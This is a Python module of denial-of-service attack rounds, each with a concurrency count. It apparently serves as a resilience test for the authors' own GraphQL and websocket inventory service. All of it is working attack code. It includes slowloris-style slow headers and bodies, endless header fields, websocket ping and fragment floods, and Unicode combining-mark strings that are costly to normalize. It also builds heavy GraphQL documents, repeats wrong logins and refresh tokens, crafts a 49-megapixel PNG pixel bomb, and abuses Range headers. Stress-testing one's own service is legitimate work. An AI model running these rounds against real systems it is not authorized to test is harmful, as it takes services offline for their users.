"""All attacks. Each is one round of what one attacker does; attack.py runs many, over and over.

A new one is a function here and a row in ATTACKS.
"""

from __future__ import annotations

import struct
import zlib
from collections.abc import Awaitable, Callable
from dataclasses import dataclass
from itertools import count

from attacks.wire import (
    CONTINUATION,
    PING,
    TEXT,
    Target,
    frame,
    handshake,
    head,
    line,
    message,
    operation,
    upload,
    websocket,
)

Round = Callable[[Target], Awaitable[None]]

PIECE = b"a" * 65_536
MARKS = "a" + "\u0301\u0316" * 15_500  # costs the square of its length to normalize
DOCUMENT_BYTES = 4_700
SIDE = 7_000  # of a picture of 49 megapixels, almost as many as one may have
UPLOAD_BYTES = 20_000_000
RANGES = "bytes=" + ",".join(f"{n}-{n}" for n in range(0, 20_000, 2))  # almost a whole head

_numbers = count(1)


@dataclass(frozen=True, slots=True)
class Attack:
    """kind: the family; attackers: at the same time; signed_in: needs a user's token."""

    kind: str
    name: str
    round: Round
    attackers: int
    signed_in: bool = False


# Headers


async def request_line(target: Target) -> None:
    async with line(target) as hostile:
        await hostile.send(b"GET /")
        await hostile.send_for_ever(PIECE)


async def field(target: Target) -> None:
    async with line(target) as hostile:
        await hostile.send(head(target, "GET") + b"x: ")
        await hostile.send_for_ever(PIECE)


async def fields(target: Target) -> None:
    async with line(target) as hostile:
        await hostile.send(head(target, "GET"))
        await hostile.send_for_ever(b"x: y\r\n" * 1_000)


async def handshake_field(target: Target) -> None:
    async with line(target) as hostile:
        await hostile.send(handshake(target, end=b"x: "))
        await hostile.send_for_ever(PIECE)


async def trailers(target: Target) -> None:
    async with line(target) as hostile:
        chunked = head(target, "POST", fields=["transfer-encoding: chunked"])
        await hostile.send(chunked + b"\r\n0\r\n")
        await hostile.send_for_ever(b"x: y\r\n" * 1_000)


async def pipeline(target: Target) -> None:
    async with line(target) as hostile:
        await hostile.send_for_ever((head(target, "GET", "/healthz") + b"\r\n") * 500)


# Connections


async def silent(target: Target) -> None:
    async with line(target) as hostile:
        await hostile.hold()


async def slow_head(target: Target) -> None:
    async with line(target) as hostile:
        await hostile.send(head(target, "GET"))
        await hostile.send_for_ever(b"x: y\r\n", every_s=0.5)


async def slow_body(target: Target) -> None:
    async with line(target) as hostile:
        sized = ["content-type: application/json", "content-length: 60000"]
        await hostile.send(head(target, "POST", fields=sized) + b"\r\n")
        await hostile.send_for_ever(b" ", every_s=0.5)


async def deaf(target: Target) -> None:
    async with line(target) as hostile:
        hostile.stop_reading()
        await hostile.send((head(target, "GET", "/") + b"\r\n") * 16)
        await hostile.hold()


async def deaf_for_files(target: Target) -> None:
    async with line(target) as hostile:
        hostile.stop_reading()
        await hostile.send((head(target, "GET", "/icon-512.png") + b"\r\n") * 16)
        await hostile.hold()


async def come_and_go(target: Target) -> None:
    async with line(target) as hostile:
        await hostile.send(head(target, "GET", "/healthz") + b"\r\n")


async def anonymous_sockets(target: Target) -> None:
    async with websocket(Target(target.host, target.port)) as hostile:
        await hostile.hold()


# Frames


async def fragments(target: Target) -> None:
    async with websocket(target) as hostile:
        await hostile.send(frame(TEXT & 0x7F, b""))
        await hostile.send_for_ever(frame(CONTINUATION, b"") * 1_000)


async def pings(target: Target) -> None:
    async with websocket(target, begin=False) as hostile:
        hostile.stop_reading()
        await hostile.send_for_ever(frame(PING, b"p" * 125) * 500)


async def messages(target: Target) -> None:
    async with websocket(target) as hostile:
        await hostile.send_for_ever(message({"type": "ping"}) * 1_000)


async def bad_utf8(target: Target) -> None:
    async with websocket(target, begin=False) as hostile:
        await hostile.send(frame(TEXT, b"\xff\xfe"))
        await hostile.hold()


# Text


async def combining_logins(target: Target) -> None:
    asked = 'login(input: {email: $text, password: "wrong password"}) { accessToken }'
    aliases = " ".join(f"l{number}: {asked}" for number in range(10))
    await _ask(target, f"mutation ($text: String!) {{ {aliases} }}", text=MARKS)


async def combining_search(target: Target) -> None:
    document = "query ($text: String) { items(where: {search: $text}) { totalCount } }"
    await _ask(target, document, signed_in=True, text=MARKS)


async def combining_skus(target: Target) -> None:
    document = "query ($text: String!) { item(ref: {sku: $text}) { id } }"
    await _ask(target, document, signed_in=True, text=MARKS)


# Work


def heavy_document() -> str:
    """Fifty operations that spread one fragment of hundreds of fields; never the same twice."""
    operations = " ".join(f"query q{number} {{ ...f }}" for number in range(50))
    start = f"#{next(_numbers)}\n{operations} fragment f on Query {{"
    return start + " __typename" * ((DOCUMENT_BYTES - len(start)) // 11) + "}"


async def documents(target: Target) -> None:
    await _ask(target, heavy_document())


async def documents_on_a_socket(target: Target) -> None:
    async with websocket(Target(target.host, target.port)) as hostile:
        for number in range(1_000):
            payload = {"query": heavy_document(), "operationName": "q0"}
            told = {"id": str(number), "type": "subscribe", "payload": payload}
            await hostile.send(message(told))
        await hostile.hold()


async def full_pages(target: Target) -> None:
    asked = "edges { node { id sku name stock levels { quantity location { code } } } }"
    await _ask(target, f"{{ items(first: 100) {{ totalCount {asked} }} }}", signed_in=True)


async def subscriptions(target: Target) -> None:
    document = "subscription { inventoryUpdated { cursor item { id sku stock name } } }"
    async with websocket(target) as hostile:
        for number in range(50):
            payload = {"query": f"#{next(_numbers)}\n{document}"}
            told = {"id": str(number), "type": "subscribe", "payload": payload}
            await hostile.send(message(told))
        await hostile.hold()


# Logins


async def wrong_logins(target: Target) -> None:
    email = f"nobody{next(_numbers)}@example.com"
    asked = f'login(input: {{email: "{email}", password: "wrong password"}}) {{ accessToken }}'
    await _ask(target, f"mutation {{ {asked} }}")


async def wrong_refreshes(target: Target) -> None:
    asked = f'refreshSession(refreshToken: "wrong {next(_numbers)}") {{ accessToken }}'
    await _ask(target, f"mutation {{ {asked} }}")


# Files


async def slow_uploads(target: Target) -> None:
    """Just fast enough to be waited for."""
    item = await _first_item(target)
    async with line(target) as hostile:
        await hostile.send(upload(target, item, f"slow{next(_numbers)}.txt", UPLOAD_BYTES))
        await hostile.send_for_ever(PIECE[:10_000], every_s=0.5)


async def costly_pictures(target: Target) -> None:
    """Few bytes that are many pixels, and never the same."""
    item, picture = await _first_item(target), _picture()
    async with line(target) as hostile:
        head_of_it = upload(target, item, f"costly{next(_numbers)}.png", len(picture))
        await hostile.send(head_of_it + picture)
        await hostile.head()


async def many_ranges(target: Target) -> None:
    item, name = await _first_item(target), f"ranges{next(_numbers)}.txt"
    asked = "item(ref: {id: $id}) { attachments { url } }"
    async with line(target) as hostile:
        text = f"{name} ".encode() * 2_000
        await hostile.send(upload(target, item, name, len(text)) + text)
        await hostile.head()
        await hostile.body()
        await hostile.send(operation(target, f"query($id: ID!) {{ {asked} }}", True, id=item))
        await hostile.head()
        told = await hostile.body()
        url = told["data"]["item"]["attachments"][0]["url"]
        fields = [f"authorization: Bearer {target.token}", f"range: {RANGES}"]
        await hostile.send((head(target, "GET", url, fields) + b"\r\n") * 16)
        await hostile.hold()


async def _first_item(target: Target) -> str:
    async with line(target) as hostile:
        query = "{ items(first: 1) { nodes { id } } }"
        await hostile.send(operation(target, query, signed_in=True))
        await hostile.head()
        return str((await hostile.body())["data"]["items"]["nodes"][0]["id"])


def _picture() -> bytes:
    """A PNG, grey all over but for its first pixels."""

    def chunk(name: bytes, content: bytes) -> bytes:
        crc = zlib.crc32(name + content)
        return struct.pack(">I", len(content)) + name + content + struct.pack(">I", crc)

    first = next(_numbers).to_bytes(8, "big")
    packed = zlib.compressobj(1)
    rows = packed.compress(b"\0" + first + bytes(SIDE - 8))
    rows += packed.compress(bytes(SIDE + 1) * (SIDE - 1)) + packed.flush()
    start = chunk(b"IHDR", struct.pack(">IIBBBBB", SIDE, SIDE, 8, 0, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + start + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


async def _ask(
    target: Target, query: str, *, signed_in: bool = False, **variables: str | None
) -> None:
    async with line(target) as hostile:
        await hostile.send(operation(target, query, signed_in, **variables))
        await hostile.head()


ATTACKS = (
    Attack("headers", "a request line without end", request_line, 20),
    Attack("headers", "a field without end", field, 20),
    Attack("headers", "fields without end", fields, 20),
    Attack("headers", "a handshake without end", handshake_field, 20),
    Attack("headers", "trailers without end", trailers, 20),
    Attack("headers", "requests ahead of answers", pipeline, 20),
    Attack("connections", "silent ones", silent, 2_000),
    Attack("connections", "slow headers", slow_head, 500),
    Attack("connections", "slow bodies", slow_body, 500),
    Attack("connections", "answers not read", deaf, 200),
    Attack("connections", "files not read", deaf_for_files, 200),
    Attack("connections", "come and go", come_and_go, 20),
    Attack("connections", "anonymous sockets", anonymous_sockets, 500),
    Attack("frames", "empty fragments", fragments, 20),
    Attack("frames", "pings, pongs not read", pings, 20),
    Attack("frames", "messages without pause", messages, 10),
    Attack("frames", "bad UTF-8", bad_utf8, 20),
    Attack("text", "combining marks in logins", combining_logins, 4),
    Attack("text", "combining marks in a search", combining_search, 4, signed_in=True),
    Attack("text", "combining marks in a SKU", combining_skus, 4, signed_in=True),
    Attack("work", "heavy documents", documents, 8),
    Attack("work", "heavy documents on a socket", documents_on_a_socket, 2),
    Attack("work", "full pages", full_pages, 8, signed_in=True),
    Attack("work", "subscriptions", subscriptions, 8, signed_in=True),
    Attack("logins", "wrong passwords", wrong_logins, 250),
    Attack("logins", "wrong refresh tokens", wrong_refreshes, 50),
    Attack("files", "slow uploads", slow_uploads, 50, signed_in=True),
    Attack("files", "costly pictures", costly_pictures, 4, signed_in=True),
    Attack("files", "ranges without end", many_ranges, 4, signed_in=True),
)
